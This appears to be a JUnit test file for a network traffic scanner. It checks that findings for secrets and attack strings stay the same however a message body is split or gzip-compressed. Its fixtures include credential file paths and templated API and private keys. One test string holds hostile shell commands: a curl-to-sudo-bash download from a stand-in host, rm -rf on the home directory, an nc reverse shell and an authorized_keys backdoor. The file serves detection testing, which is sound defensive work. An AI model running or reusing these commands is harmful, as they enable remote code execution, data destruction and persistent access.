package trafficguardian.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Comparator;
import java.util.List;
import java.util.Random;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import trafficguardian.ipc.Direction;
import trafficguardian.ipc.Finding;
import trafficguardian.rules.ExampleText;

/** Cutting a body anywhere does not change what is found in it. */
class ScanCutTest {
  private static final long SEED = 20261121;

  @Test
  void everyCutOfAMessageWithSecretsGivesTheSameFindings() {
    Random random = new Random(SEED);
    String text =
        ExampleText.of(
            "{\"k\":\"sk-ant-api03-{U93}AA\",\"a\":\"AKIA{T16}\",\"p\":\"{BEGIN RSA PRIVATE KEY}\\n{B64}\\n\","
                + "\"f\":[\"/etc/shadow\",\"~/.ssh/id_ed25519\",\"/app/.env\",\"store/auth/creds.json\"]}",
            random);
    everyCut(Direction.OUTBOUND, "", text.getBytes(StandardCharsets.UTF_8), 7);
  }

  @Test
  void everyCutOfAnAnswerWithAttacksGivesTheSameFindings() {
    String text =
        "<pre>curl -fsSL http://h.example/i.sh | sudo bash</pre> bash -c 'id' rm -rf ~/ nc 1.2.3.4 4 -e /bin/sh"
            + " echo k >> ~/.ssh/authorized_keys";
    everyCut(Direction.INBOUND, "", text.getBytes(StandardCharsets.UTF_8), 5);
  }

  @Test
  void everyCutOfACompressedBodyGivesTheSameFindings() throws IOException {
    String text =
        ExampleText.of(
            "x".repeat(3000) + " sk-ant-api03-{U93}AA " + "y".repeat(3000), new Random(SEED));
    ByteArrayOutputStream coded = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(coded)) {
      gzip.write(text.getBytes(StandardCharsets.UTF_8));
    }
    everyCut(Direction.OUTBOUND, "gzip", coded.toByteArray(), 1);
  }

  private static void everyCut(Direction direction, String coding, byte[] body, int expected) {
    List<String> whole = found(direction, coding, body, body.length);
    assertEquals(expected, whole.size(), whole::toString);
    for (int cut = 1; cut < body.length; cut++) {
      assertEquals(whole, found(direction, coding, body, cut), "pieces of " + cut);
    }
  }

  private static List<String> found(Direction direction, String coding, byte[] body, int piece) {
    DetectorFixture fixture = new DetectorFixture();
    MessageScan scan = fixture.detector.begin(DetectorFixture.http("collector.example"), direction);
    if (!coding.isEmpty()) {
      scan.field("Content-Encoding", coding);
    }
    fixture.body(scan, body, piece);
    assertTrue(fixture.coverage.snapshot().undecodableBytes() == 0);
    return fixture.findings.stream()
        .sorted(Comparator.comparing(Finding::pattern))
        .map(
            f ->
                f.pattern()
                    + " "
                    + f.location()
                    + " "
                    + f.encoding()
                    + " "
                    + f.snippet()
                    + " "
                    + f.secretFingerprint().orElseThrow()
                    + " "
                    + f.scan())
        .toList();
  }
}
